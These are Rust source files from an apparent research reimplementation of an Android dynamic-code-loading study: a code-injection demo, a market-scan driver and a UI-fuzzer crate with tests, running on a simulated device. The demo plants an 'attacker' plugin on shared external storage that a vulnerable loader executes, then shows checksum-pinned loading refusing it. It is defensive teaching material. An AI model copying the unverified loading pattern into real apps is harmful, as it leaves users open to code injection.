    println!("Static analysis saw nothing; the hybrid pipeline saw everything.");
}
