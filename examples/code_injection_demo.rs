//! Code-injection attack and mitigation: the Table IX vulnerability
//! played out end to end, then defeated with verified loading
//! (the Grab'n-Run-style `SecureDexClassLoader` extension).
//!
//! ```text
//! cargo run --release --example code_injection_demo
//! ```

use dydroid_avm::{Device, DeviceConfig, Owner, Value};
use dydroid_dex::builder::DexBuilder;
use dydroid_dex::checksum::crc32;
use dydroid_dex::{AccessFlags, Apk, Component, DexFile, FieldRef, Manifest, MethodRef};

const STAGED: &str = "/mnt/sdcard/plugins/analytics.jar";

fn plugin(marker: i64, label: &str) -> DexFile {
    let mut b = DexBuilder::new();
    let c = b.class("com.plugin.Analytics", "java.lang.Object");
    c.default_constructor();
    let m = c.method("run", "()V", AccessFlags::PUBLIC);
    m.registers(4);
    m.const_int(1, marker);
    m.sput(1, FieldRef::new("world.G", "ran", "I"));
    m.const_str(2, label);
    m.sput(2, FieldRef::new("world.G", "who", "Ljava/lang/String;"));
    m.ret_void();
    b.build()
}

/// Builds the victim app; `pinned_crc` switches between the vanilla
/// loader (None) and the verified loader (Some(crc)).
fn victim(pkg: &str, pinned_crc: Option<u32>) -> Apk {
    let mut manifest = Manifest::new(pkg);
    manifest.min_sdk = 14;
    manifest.add_permission(dydroid_dex::manifest::WRITE_EXTERNAL_STORAGE);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));
    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(12);
    m.const_str(1, STAGED);
    m.const_str(2, format!("/data/data/{pkg}/odex"));
    match pinned_crc {
        None => {
            m.new_instance(3, "dalvik.system.DexClassLoader");
            m.invoke_direct(
                MethodRef::new(
                    "dalvik.system.DexClassLoader",
                    "<init>",
                    "(Ljava/lang/String;Ljava/lang/String;)V",
                ),
                vec![3, 1, 2],
            );
        }
        Some(crc) => {
            m.const_int(4, i64::from(crc));
            m.new_instance(3, "dalvik.system.SecureDexClassLoader");
            m.invoke_direct(
                MethodRef::new(
                    "dalvik.system.SecureDexClassLoader",
                    "<init>",
                    "(Ljava/lang/String;Ljava/lang/String;I)V",
                ),
                vec![3, 1, 2, 4],
            );
        }
    }
    let loader_cls = if pinned_crc.is_some() {
        "dalvik.system.SecureDexClassLoader"
    } else {
        "dalvik.system.DexClassLoader"
    };
    m.const_str(5, "com.plugin.Analytics");
    m.invoke_virtual(
        MethodRef::new(
            loader_cls,
            "loadClass",
            "(Ljava/lang/String;)Ljava/lang/Class;",
        ),
        vec![3, 5],
    );
    m.move_result(6);
    m.invoke_virtual(
        MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
        vec![6],
    );
    m.move_result(7);
    m.invoke_virtual(
        MethodRef::new("com.plugin.Analytics", "run", "()V"),
        vec![7],
    );
    m.ret_void();
    Apk::build(manifest, b.build())
}

fn who_ran(proc: &dydroid_avm::Process) -> String {
    proc.statics
        .get(&("world.G".to_string(), "who".to_string()))
        .and_then(|v| match v {
            Value::Str(s) => Some(s.clone()),
            _ => None,
        })
        .unwrap_or_else(|| "<nobody>".to_string())
}

fn main() {
    let genuine = plugin(1, "the developer's plugin");
    let attacker = plugin(666, "THE ATTACKER'S PAYLOAD");

    println!("=== Act 1: the vulnerable app (paper Table IX) ===");
    let mut device = Device::new(DeviceConfig::default());
    device
        .fs
        .write_system(STAGED, genuine.to_bytes(), Owner::app("com.victim"));
    device
        .install(&victim("com.victim", None).to_bytes())
        .unwrap();
    let proc = device.launch("com.victim").unwrap();
    println!("benign run:    executed {}", who_ran(&proc));

    // The attack: any app can write to pre-4.4 external storage.
    let mut device = Device::new(DeviceConfig::default());
    device
        .fs
        .write_system(STAGED, attacker.to_bytes(), Owner::app("com.evil"));
    device
        .install(&victim("com.victim", None).to_bytes())
        .unwrap();
    let proc = device.launch("com.victim").unwrap();
    println!(
        "after attack:  executed {}  <-- code injection!",
        who_ran(&proc)
    );

    println!("\n=== Act 2: the mitigation (Falsina et al., cited by the paper) ===");
    let pinned = crc32(&genuine.to_bytes());
    let mut device = Device::new(DeviceConfig::default());
    device
        .fs
        .write_system(STAGED, genuine.to_bytes(), Owner::app("com.victim"));
    device
        .install(&victim("com.hardened", Some(pinned)).to_bytes())
        .unwrap();
    let proc = device.launch("com.hardened").unwrap();
    println!("benign run:    executed {}", who_ran(&proc));

    let mut device = Device::new(DeviceConfig::default());
    device
        .fs
        .write_system(STAGED, attacker.to_bytes(), Owner::app("com.evil"));
    device
        .install(&victim("com.hardened", Some(pinned)).to_bytes())
        .unwrap();
    let proc = device.launch("com.hardened").unwrap();
    println!(
        "after attack:  executed {}  (app refused the tampered file{})",
        who_ran(&proc),
        if proc.alive {
            ""
        } else {
            ", SecurityException"
        }
    );
}
