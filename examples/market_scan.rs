//! Market scan: the full measurement study, reproducing every table and
//! figure of the paper at a configurable scale.
//!
//! ```text
//! cargo run --release --example market_scan -- [scale]
//! ```
//!
//! `scale` defaults to 0.1 (≈ 5,874 apps; the paper measured 58,739).

use dydroid::{Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec};

fn main() {
    let scale: f64 = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0.1);

    let spec = CorpusSpec {
        scale,
        ..Default::default()
    };
    let t0 = std::time::Instant::now();
    let corpus = generate(&spec);
    println!(
        "corpus: {} apps (scale {scale}) in {:.2?}",
        corpus.len(),
        t0.elapsed()
    );

    let pipeline = Pipeline::new(PipelineConfig::default());
    let t1 = std::time::Instant::now();
    let report = pipeline.run(&corpus);
    println!(
        "pipeline: {} apps analysed in {:.2?} ({:.1} apps/s)\n",
        report.records().len(),
        t1.elapsed(),
        report.records().len() as f64 / t1.elapsed().as_secs_f64()
    );

    println!("{}", report.render_all());

    // Narrative findings, mirroring Section V's prose.
    let t2 = report.table2();
    println!("--- Findings ---");
    println!(
        "DCL executed in {:.1}% of exercised DEX-DCL apps and {:.1}% of native-DCL apps.",
        100.0 * t2.dex.intercepted as f64 / t2.dex.total as f64,
        100.0 * t2.native.intercepted as f64 / t2.native.total as f64,
    );
    let t4 = report.table4();
    println!(
        "Third-party SDKs initiate {:.1}% of DEX loading — developers often don't know \
         what their bundled libraries inject.",
        100.0 * t4.dex.third_party as f64 / t4.dex.total.max(1) as f64
    );
    let env = report.env_counts();
    if env.total_files > 0 {
        println!(
            "Of {} malicious files, only {} still load when the clock predates the \
             release date — classic logic-bomb review evasion.",
            env.total_files, env.time_before_release
        );
    }
}
