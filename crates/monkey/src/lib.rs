//! # dydroid-monkey
//!
//! A Monkey-like UI/Application exerciser for the simulated Android
//! runtime. The paper drives each app with the Android Monkey fuzzer on
//! the instrumented device; this crate does the same against
//! [`dydroid_avm`]: launch the app, then fire pseudo-random UI callback
//! events until the budget is exhausted or the app dies.
//!
//! Determinism: the event sequence is a pure function of the seed, so
//! every measurement table regenerates identically run-to-run.
//!
//! ## Example
//!
//! ```
//! use dydroid_avm::{Device, DeviceConfig};
//! use dydroid_dex::{Apk, Component, DexFile, Manifest};
//! use dydroid_monkey::{ExerciseOutcome, Monkey, MonkeyConfig};
//!
//! let mut device = Device::new(DeviceConfig::default());
//! let mut manifest = Manifest::new("com.example.app");
//! manifest.components.push(Component::main_activity("com.example.app.Main"));
//! let mut dex = dydroid_dex::builder::DexBuilder::new();
//! dex.class("com.example.app.Main", "android.app.Activity")
//!     .method("onCreate", "()V", dydroid_dex::AccessFlags::PUBLIC)
//!     .ret_void();
//! device.install(&Apk::build(manifest, dex.build()).to_bytes())?;
//!
//! let mut monkey = Monkey::new(MonkeyConfig::default());
//! let outcome = monkey.exercise(&mut device, "com.example.app")?;
//! assert!(matches!(outcome, ExerciseOutcome::Exercised { crashed: false, .. }));
//! # Ok::<(), dydroid_avm::AvmError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::time::Instant;

use dydroid_avm::{AvmError, Device, Process};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// Conversion rate of the deterministic virtual clock: one virtual
/// millisecond per thousand retired interpreter instructions. The
/// deadline watchdog charges an app the *maximum* of virtual and wall
/// time, so runaway interpretation trips the deadline deterministically
/// regardless of host speed, while genuine wall-clock stalls are still
/// caught.
pub const VIRTUAL_INSTRUCTIONS_PER_MS: u64 = 1_000;

/// Fuzzer configuration.
#[derive(Debug, Clone)]
pub struct MonkeyConfig {
    /// PRNG seed; the whole event sequence derives from it.
    pub seed: u64,
    /// Maximum number of UI events to inject after launch.
    pub event_budget: usize,
    /// Per-app deadline in milliseconds (`None` = unlimited). Charged as
    /// `max(wall-clock ms, instructions_retired / 1000)`; the remaining
    /// budget also caps each callback's interpreter fuel.
    pub deadline_ms: Option<u64>,
}

impl Default for MonkeyConfig {
    fn default() -> Self {
        MonkeyConfig {
            seed: 0x00D1_D501,
            event_budget: 50,
            deadline_ms: None,
        }
    }
}

/// The result of exercising one app.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ExerciseOutcome {
    /// The app declares no launchable activity — the Monkey cannot drive
    /// it (Table II's "No activity" row).
    NoActivity,
    /// The app was launched and fuzzed.
    Exercised {
        /// UI events fired (including lifecycle re-entries).
        events_fired: usize,
        /// Whether the app crashed at any point.
        crashed: bool,
    },
    /// The per-app deadline elapsed before the event budget did. The app
    /// is abandoned; the pipeline classifies this as a harness failure.
    DeadlineExceeded {
        /// UI events fired before the watchdog tripped.
        events_fired: usize,
        /// Milliseconds charged (max of wall-clock and virtual time).
        elapsed_ms: u64,
    },
}

impl ExerciseOutcome {
    /// Whether the app was successfully driven without crashing.
    pub fn is_clean(&self) -> bool {
        matches!(self, ExerciseOutcome::Exercised { crashed: false, .. })
    }
}

/// The UI exerciser.
#[derive(Debug)]
pub struct Monkey {
    rng: ChaCha8Rng,
    config: MonkeyConfig,
}

impl Monkey {
    /// Creates a Monkey from a configuration.
    pub fn new(config: MonkeyConfig) -> Self {
        Monkey {
            rng: ChaCha8Rng::seed_from_u64(config.seed),
            config,
        }
    }

    /// Launches and exercises `pkg` on `device`, returning the outcome.
    /// Crashes inside the app are contained and reported, never
    /// propagated — the harness must survive 46K hostile apps.
    ///
    /// # Errors
    ///
    /// Returns [`AvmError::NotInstalled`] for unknown packages; in-app
    /// failures are part of the [`ExerciseOutcome`], not errors.
    pub fn exercise(
        &mut self,
        device: &mut Device,
        pkg: &str,
    ) -> Result<ExerciseOutcome, AvmError> {
        let started = Instant::now();
        let manifest = device
            .app(pkg)
            .ok_or_else(|| AvmError::NotInstalled(pkg.to_string()))?
            .manifest
            .clone();
        if manifest.main_activity().is_none() {
            return Ok(ExerciseOutcome::NoActivity);
        }

        let mut process = device.launch(pkg)?;
        if let Some(deadline_ms) = self.config.deadline_ms {
            // Launch itself may have burned the whole budget (e.g. a
            // spinning Application/onCreate).
            let elapsed = charged_ms(&process, started);
            if elapsed >= deadline_ms {
                return Ok(ExerciseOutcome::DeadlineExceeded {
                    events_fired: 0,
                    elapsed_ms: elapsed,
                });
            }
        }
        if !process.alive {
            return Ok(ExerciseOutcome::Exercised {
                events_fired: 0,
                crashed: true,
            });
        }

        match self.fuzz_watched(device, &mut process, &manifest, started) {
            FuzzResult::Completed(events_fired) => Ok(ExerciseOutcome::Exercised {
                events_fired,
                crashed: !process.alive,
            }),
            FuzzResult::DeadlineExceeded {
                events_fired,
                elapsed_ms,
            } => Ok(ExerciseOutcome::DeadlineExceeded {
                events_fired,
                elapsed_ms,
            }),
        }
    }

    /// Fires random callbacks on an already-launched process. Returns the
    /// number of events fired. Exposed separately so the pipeline can
    /// launch and fuzz in distinct phases.
    pub fn fuzz(
        &mut self,
        device: &mut Device,
        process: &mut Process,
        manifest: &dydroid_dex::Manifest,
    ) -> usize {
        match self.fuzz_watched(device, process, manifest, Instant::now()) {
            FuzzResult::Completed(fired)
            | FuzzResult::DeadlineExceeded {
                events_fired: fired,
                ..
            } => fired,
        }
    }

    /// The fuzz loop with the deadline watchdog. Between events the
    /// watchdog charges `max(wall ms, virtual ms)` against the deadline;
    /// each callback's interpreter fuel is additionally capped by the
    /// remaining virtual budget so one callback cannot overshoot by more
    /// than a slice. Fuel exhaustion under a deadline-derived cap counts
    /// as a deadline hit, not an app crash.
    fn fuzz_watched(
        &mut self,
        device: &mut Device,
        process: &mut Process,
        manifest: &dydroid_dex::Manifest,
        started: Instant,
    ) -> FuzzResult {
        let default_fuel = dydroid_avm::interp::DEFAULT_FUEL;
        let mut fired = 0;
        for _ in 0..self.config.event_budget {
            if !process.alive {
                break;
            }
            let mut fuel = default_fuel;
            if let Some(deadline_ms) = self.config.deadline_ms {
                let elapsed = charged_ms(process, started);
                if elapsed >= deadline_ms {
                    return FuzzResult::DeadlineExceeded {
                        events_fired: fired,
                        elapsed_ms: elapsed,
                    };
                }
                let remaining_instr =
                    (deadline_ms - elapsed).saturating_mul(VIRTUAL_INSTRUCTIONS_PER_MS);
                fuel = default_fuel.min(remaining_instr.max(1));
            }
            // Callbacks can change as DCL loads new classes: re-enumerate.
            let callbacks = process.ui_callbacks(manifest);
            if callbacks.is_empty() {
                break;
            }
            let (class, method) = callbacks[self.rng.gen_range(0..callbacks.len())].clone();
            fired += 1;
            // run_callback records crashes in the device log itself.
            let result = process.run_callback_with_fuel(device, &class, &method, fuel);
            if matches!(result, Err(dydroid_avm::Exec::OutOfFuel)) && fuel < default_fuel {
                // The callback only ran out because the deadline capped
                // its fuel: a watchdog kill, not an app bug.
                return FuzzResult::DeadlineExceeded {
                    events_fired: fired,
                    elapsed_ms: charged_ms(process, started)
                        .max(self.config.deadline_ms.unwrap_or(0)),
                };
            }
        }
        FuzzResult::Completed(fired)
    }

    /// The seed in use (for reporting).
    pub fn seed(&self) -> u64 {
        self.config.seed
    }
}

/// Internal result of the watched fuzz loop.
enum FuzzResult {
    Completed(usize),
    DeadlineExceeded {
        events_fired: usize,
        elapsed_ms: u64,
    },
}

/// Converts retired interpreter instructions to deterministic
/// virtual-clock milliseconds (the unit the deadline watchdog charges).
pub fn virtual_ms(instructions: u64) -> u64 {
    instructions / VIRTUAL_INSTRUCTIONS_PER_MS
}

/// Converts retired interpreter instructions to deterministic
/// virtual-clock *microseconds* — the unit the telemetry layer
/// accumulates per app, fine-grained enough that a short exercise run
/// (well under `VIRTUAL_INSTRUCTIONS_PER_MS` instructions) still
/// charges a nonzero amount instead of truncating to zero.
pub fn virtual_us(instructions: u64) -> u64 {
    instructions.saturating_mul(1_000) / VIRTUAL_INSTRUCTIONS_PER_MS
}

/// Milliseconds charged against the deadline: the max of real elapsed
/// time and the deterministic virtual clock derived from retired
/// interpreter instructions.
fn charged_ms(process: &Process, started: Instant) -> u64 {
    let wall = started.elapsed().as_millis().min(u128::from(u64::MAX)) as u64;
    wall.max(virtual_ms(process.instructions_retired))
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_avm::DeviceConfig;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, Apk, Component, Manifest, MethodRef};

    fn install(device: &mut Device, pkg: &str, build: impl FnOnce(&mut DexBuilder)) {
        let mut manifest = Manifest::new(pkg);
        manifest
            .components
            .push(Component::main_activity(format!("{pkg}.Main")));
        let mut b = DexBuilder::new();
        build(&mut b);
        device
            .install(&Apk::build(manifest, b.build()).to_bytes())
            .unwrap();
    }

    #[test]
    fn no_activity_detected() {
        let mut device = Device::new(DeviceConfig::default());
        let manifest = Manifest::new("com.no.activity");
        device
            .install(&Apk::build(manifest, dydroid_dex::DexFile::new()).to_bytes())
            .unwrap();
        let mut monkey = Monkey::new(MonkeyConfig::default());
        assert_eq!(
            monkey.exercise(&mut device, "com.no.activity").unwrap(),
            ExerciseOutcome::NoActivity
        );
    }

    #[test]
    fn clean_app_exercised() {
        let mut device = Device::new(DeviceConfig::default());
        install(&mut device, "com.a", |b| {
            let c = b.class("com.a.Main", "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
            c.method("onClickRefresh", "()V", AccessFlags::PUBLIC)
                .ret_void();
        });
        let mut monkey = Monkey::new(MonkeyConfig {
            seed: 1,
            event_budget: 10,
            deadline_ms: None,
        });
        let outcome = monkey.exercise(&mut device, "com.a").unwrap();
        assert_eq!(
            outcome,
            ExerciseOutcome::Exercised {
                events_fired: 10,
                crashed: false
            }
        );
        assert!(outcome.is_clean());
    }

    #[test]
    fn crash_on_launch_reported() {
        let mut device = Device::new(DeviceConfig::default());
        install(&mut device, "com.crash", |b| {
            let c = b.class("com.crash.Main", "android.app.Activity");
            let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
            m.const_str(0, "developer bug");
            m.throw(0);
        });
        let mut monkey = Monkey::new(MonkeyConfig::default());
        let outcome = monkey.exercise(&mut device, "com.crash").unwrap();
        assert_eq!(
            outcome,
            ExerciseOutcome::Exercised {
                events_fired: 0,
                crashed: true
            }
        );
        assert!(device.log.crashed("com.crash"));
    }

    #[test]
    fn crash_in_callback_stops_fuzzing() {
        let mut device = Device::new(DeviceConfig::default());
        install(&mut device, "com.cb", |b| {
            let c = b.class("com.cb.Main", "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
            let m = c.method("onClickBoom", "()V", AccessFlags::PUBLIC);
            m.const_str(0, "boom");
            m.throw(0);
        });
        let mut monkey = Monkey::new(MonkeyConfig {
            seed: 2,
            event_budget: 100,
            deadline_ms: None,
        });
        let outcome = monkey.exercise(&mut device, "com.cb").unwrap();
        assert_eq!(
            outcome,
            ExerciseOutcome::Exercised {
                events_fired: 1,
                crashed: true
            }
        );
    }

    #[test]
    fn deterministic_given_seed() {
        // Two devices, same seed → identical event logs.
        let run = |seed: u64| {
            let mut device = Device::new(DeviceConfig::default());
            install(&mut device, "com.det", |b| {
                let c = b.class("com.det.Main", "android.app.Activity");
                c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
                // Two callbacks that record different APIs.
                let m = c.method("onClickA", "()V", AccessFlags::PUBLIC);
                m.invoke_static(
                    MethodRef::new(
                        "android.telephony.TelephonyManager",
                        "getDeviceId",
                        "()Ljava/lang/String;",
                    ),
                    vec![],
                );
                m.ret_void();
                let m = c.method("onClickB", "()V", AccessFlags::PUBLIC);
                m.invoke_static(
                    MethodRef::new(
                        "android.accounts.AccountManager",
                        "getAccounts",
                        "()Ljava/lang/String;",
                    ),
                    vec![],
                );
                m.ret_void();
            });
            let mut monkey = Monkey::new(MonkeyConfig {
                seed,
                event_budget: 20,
                deadline_ms: None,
            });
            monkey.exercise(&mut device, "com.det").unwrap();
            format!("{:?}", device.log.events())
        };
        assert_eq!(run(42), run(42));
        assert_ne!(run(42), run(43), "different seeds should differ");
    }

    fn install_spinner(device: &mut Device, pkg: &str, iterations: i64) {
        install(device, pkg, |b| {
            let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
            let m = c.method("onSpin", "()V", AccessFlags::PUBLIC);
            m.registers(4);
            m.const_int(0, 0);
            m.const_int(1, iterations);
            m.const_int(2, 1);
            let head = m.label();
            m.bind(head);
            m.binop(dydroid_dex::BinOp::Add, 0, 0, 2);
            m.if_cmp(dydroid_dex::CmpKind::Lt, 0, 1, head);
            m.ret_void();
        });
    }

    #[test]
    fn deadline_trips_on_spinning_app() {
        let mut device = Device::new(DeviceConfig::default());
        // Each onSpin retires ~120k instructions = 120 virtual ms.
        install_spinner(&mut device, "com.spin", 60_000);
        let mut monkey = Monkey::new(MonkeyConfig {
            seed: 5,
            event_budget: 50,
            deadline_ms: Some(200),
        });
        let outcome = monkey.exercise(&mut device, "com.spin").unwrap();
        assert!(
            matches!(outcome, ExerciseOutcome::DeadlineExceeded { .. }),
            "expected deadline, got {outcome:?}"
        );
    }

    #[test]
    fn generous_deadline_leaves_apps_alone() {
        let mut device = Device::new(DeviceConfig::default());
        install_spinner(&mut device, "com.ok", 50);
        let mut monkey = Monkey::new(MonkeyConfig {
            seed: 5,
            event_budget: 10,
            deadline_ms: Some(30_000),
        });
        let outcome = monkey.exercise(&mut device, "com.ok").unwrap();
        assert_eq!(
            outcome,
            ExerciseOutcome::Exercised {
                events_fired: 10,
                crashed: false
            }
        );
    }

    #[test]
    fn unknown_package_is_error() {
        let mut device = Device::new(DeviceConfig::default());
        let mut monkey = Monkey::new(MonkeyConfig::default());
        assert!(matches!(
            monkey.exercise(&mut device, "ghost"),
            Err(AvmError::NotInstalled(_))
        ));
    }

    #[test]
    fn no_callbacks_ends_early() {
        let mut device = Device::new(DeviceConfig::default());
        install(&mut device, "com.min", |b| {
            let c = b.class("com.min.Main", "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
        });
        let mut monkey = Monkey::new(MonkeyConfig::default());
        let outcome = monkey.exercise(&mut device, "com.min").unwrap();
        assert_eq!(
            outcome,
            ExerciseOutcome::Exercised {
                events_fired: 0,
                crashed: false
            }
        );
    }
}
