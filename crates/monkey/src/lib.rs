//! # dydroid-monkey
//!
//! A Monkey-like UI/Application exerciser for the simulated Android
//! runtime. The paper drives each app with the Android Monkey fuzzer on
//! the instrumented device; this crate does the same against
//! [`dydroid_avm`]: launch the app, then fire pseudo-random UI callback
//! events until the budget is exhausted or the app dies.
//!
//! Determinism: the event sequence is a pure function of the seed, so
//! every measurement table regenerates identically run-to-run.
//!
//! ## Example
//!
//! ```
//! use dydroid_avm::{Device, DeviceConfig};
//! use dydroid_dex::{Apk, Component, DexFile, Manifest};
//! use dydroid_monkey::{ExerciseOutcome, Monkey, MonkeyConfig};
//!
//! let mut device = Device::new(DeviceConfig::default());
//! let mut manifest = Manifest::new("com.example.app");
//! manifest.components.push(Component::main_activity("com.example.app.Main"));
//! let mut dex = dydroid_dex::builder::DexBuilder::new();
//! dex.class("com.example.app.Main", "android.app.Activity")
//!     .method("onCreate", "()V", dydroid_dex::AccessFlags::PUBLIC)
//!     .ret_void();
//! device.install(&Apk::build(manifest, dex.build()).to_bytes())?;
//!
//! let mut monkey = Monkey::new(MonkeyConfig::default());
//! let outcome = monkey.exercise(&mut device, "com.example.app")?;
//! assert!(matches!(outcome, ExerciseOutcome::Exercised { crashed: false, .. }));
//! # Ok::<(), dydroid_avm::AvmError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use dydroid_avm::{AvmError, Device, Process};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// Fuzzer configuration.
#[derive(Debug, Clone)]
pub struct MonkeyConfig {
    /// PRNG seed; the whole event sequence derives from it.
    pub seed: u64,
    /// Maximum number of UI events to inject after launch.
    pub event_budget: usize,
}

impl Default for MonkeyConfig {
    fn default() -> Self {
        MonkeyConfig {
            seed: 0x00D1_D501,
            event_budget: 50,
        }
    }
}

/// The result of exercising one app.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ExerciseOutcome {
    /// The app declares no launchable activity — the Monkey cannot drive
    /// it (Table II's "No activity" row).
    NoActivity,
    /// The app was launched and fuzzed.
    Exercised {
        /// UI events fired (including lifecycle re-entries).
        events_fired: usize,
        /// Whether the app crashed at any point.
        crashed: bool,
    },
}

impl ExerciseOutcome {
    /// Whether the app was successfully driven without crashing.
    pub fn is_clean(&self) -> bool {
        matches!(self, ExerciseOutcome::Exercised { crashed: false, .. })
    }
}

/// The UI exerciser.
#[derive(Debug)]
pub struct Monkey {
    rng: ChaCha8Rng,
    config: MonkeyConfig,
}

impl Monkey {
    /// Creates a Monkey from a configuration.
    pub fn new(config: MonkeyConfig) -> Self {
        Monkey {
            rng: ChaCha8Rng::seed_from_u64(config.seed),
            config,
        }
    }

    /// Launches and exercises `pkg` on `device`, returning the outcome.
    /// Crashes inside the app are contained and reported, never
    /// propagated — the harness must survive 46K hostile apps.
    ///
    /// # Errors
    ///
    /// Returns [`AvmError::NotInstalled`] for unknown packages; in-app
    /// failures are part of the [`ExerciseOutcome`], not errors.
    pub fn exercise(
        &mut self,
        device: &mut Device,
        pkg: &str,
    ) -> Result<ExerciseOutcome, AvmError> {
        let manifest = device
            .app(pkg)
            .ok_or_else(|| AvmError::NotInstalled(pkg.to_string()))?
            .manifest
            .clone();
        if manifest.main_activity().is_none() {
            return Ok(ExerciseOutcome::NoActivity);
        }

        let mut process = device.launch(pkg)?;
        if !process.alive {
            return Ok(ExerciseOutcome::Exercised {
                events_fired: 0,
                crashed: true,
            });
        }

        let events_fired = self.fuzz(device, &mut process, &manifest);
        Ok(ExerciseOutcome::Exercised {
            events_fired,
            crashed: !process.alive,
        })
    }

    /// Fires random callbacks on an already-launched process. Returns the
    /// number of events fired. Exposed separately so the pipeline can
    /// launch and fuzz in distinct phases.
    pub fn fuzz(
        &mut self,
        device: &mut Device,
        process: &mut Process,
        manifest: &dydroid_dex::Manifest,
    ) -> usize {
        let mut fired = 0;
        for _ in 0..self.config.event_budget {
            if !process.alive {
                break;
            }
            // Callbacks can change as DCL loads new classes: re-enumerate.
            let callbacks = process.ui_callbacks(manifest);
            if callbacks.is_empty() {
                break;
            }
            let (class, method) = callbacks[self.rng.gen_range(0..callbacks.len())].clone();
            fired += 1;
            // run_callback records crashes in the device log itself.
            let _ = process.run_callback(device, &class, &method);
        }
        fired
    }

    /// The seed in use (for reporting).
    pub fn seed(&self) -> u64 {
        self.config.seed
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_avm::DeviceConfig;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, Apk, Component, Manifest, MethodRef};

    fn install(device: &mut Device, pkg: &str, build: impl FnOnce(&mut DexBuilder)) {
        let mut manifest = Manifest::new(pkg);
        manifest
            .components
            .push(Component::main_activity(format!("{pkg}.Main")));
        let mut b = DexBuilder::new();
        build(&mut b);
        device
            .install(&Apk::build(manifest, b.build()).to_bytes())
            .unwrap();
    }

    #[test]
    fn no_activity_detected() {
        let mut device = Device::new(DeviceConfig::default());
        let manifest = Manifest::new("com.no.activity");
        device
            .install(&Apk::build(manifest, dydroid_dex::DexFile::new()).to_bytes())
            .unwrap();
        let mut monkey = Monkey::new(MonkeyConfig::default());
        assert_eq!(
            monkey.exercise(&mut device, "com.no.activity").unwrap(),
            ExerciseOutcome::NoActivity
        );
    }

    #[test]
    fn clean_app_exercised() {
        let mut device = Device::new(DeviceConfig::default());
        install(&mut device, "com.a", |b| {
            let c = b.class("com.a.Main", "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
            c.method("onClickRefresh", "()V", AccessFlags::PUBLIC)
                .ret_void();
        });
        let mut monkey = Monkey::new(MonkeyConfig {
            seed: 1,
            event_budget: 10,
        });
        let outcome = monkey.exercise(&mut device, "com.a").unwrap();
        assert_eq!(
            outcome,
            ExerciseOutcome::Exercised {
                events_fired: 10,
                crashed: false
            }
        );
        assert!(outcome.is_clean());
    }

    #[test]
    fn crash_on_launch_reported() {
        let mut device = Device::new(DeviceConfig::default());
        install(&mut device, "com.crash", |b| {
            let c = b.class("com.crash.Main", "android.app.Activity");
            let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
            m.const_str(0, "developer bug");
            m.throw(0);
        });
        let mut monkey = Monkey::new(MonkeyConfig::default());
        let outcome = monkey.exercise(&mut device, "com.crash").unwrap();
        assert_eq!(
            outcome,
            ExerciseOutcome::Exercised {
                events_fired: 0,
                crashed: true
            }
        );
        assert!(device.log.crashed("com.crash"));
    }

    #[test]
    fn crash_in_callback_stops_fuzzing() {
        let mut device = Device::new(DeviceConfig::default());
        install(&mut device, "com.cb", |b| {
            let c = b.class("com.cb.Main", "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
            let m = c.method("onClickBoom", "()V", AccessFlags::PUBLIC);
            m.const_str(0, "boom");
            m.throw(0);
        });
        let mut monkey = Monkey::new(MonkeyConfig {
            seed: 2,
            event_budget: 100,
        });
        let outcome = monkey.exercise(&mut device, "com.cb").unwrap();
        assert_eq!(
            outcome,
            ExerciseOutcome::Exercised {
                events_fired: 1,
                crashed: true
            }
        );
    }

    #[test]
    fn deterministic_given_seed() {
        // Two devices, same seed → identical event logs.
        let run = |seed: u64| {
            let mut device = Device::new(DeviceConfig::default());
            install(&mut device, "com.det", |b| {
                let c = b.class("com.det.Main", "android.app.Activity");
                c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
                // Two callbacks that record different APIs.
                let m = c.method("onClickA", "()V", AccessFlags::PUBLIC);
                m.invoke_static(
                    MethodRef::new(
                        "android.telephony.TelephonyManager",
                        "getDeviceId",
                        "()Ljava/lang/String;",
                    ),
                    vec![],
                );
                m.ret_void();
                let m = c.method("onClickB", "()V", AccessFlags::PUBLIC);
                m.invoke_static(
                    MethodRef::new(
                        "android.accounts.AccountManager",
                        "getAccounts",
                        "()Ljava/lang/String;",
                    ),
                    vec![],
                );
                m.ret_void();
            });
            let mut monkey = Monkey::new(MonkeyConfig {
                seed,
                event_budget: 20,
            });
            monkey.exercise(&mut device, "com.det").unwrap();
            format!("{:?}", device.log.events())
        };
        assert_eq!(run(42), run(42));
        assert_ne!(run(42), run(43), "different seeds should differ");
    }

    #[test]
    fn unknown_package_is_error() {
        let mut device = Device::new(DeviceConfig::default());
        let mut monkey = Monkey::new(MonkeyConfig::default());
        assert!(matches!(
            monkey.exercise(&mut device, "ghost"),
            Err(AvmError::NotInstalled(_))
        ));
    }

    #[test]
    fn no_callbacks_ends_early() {
        let mut device = Device::new(DeviceConfig::default());
        install(&mut device, "com.min", |b| {
            let c = b.class("com.min.Main", "android.app.Activity");
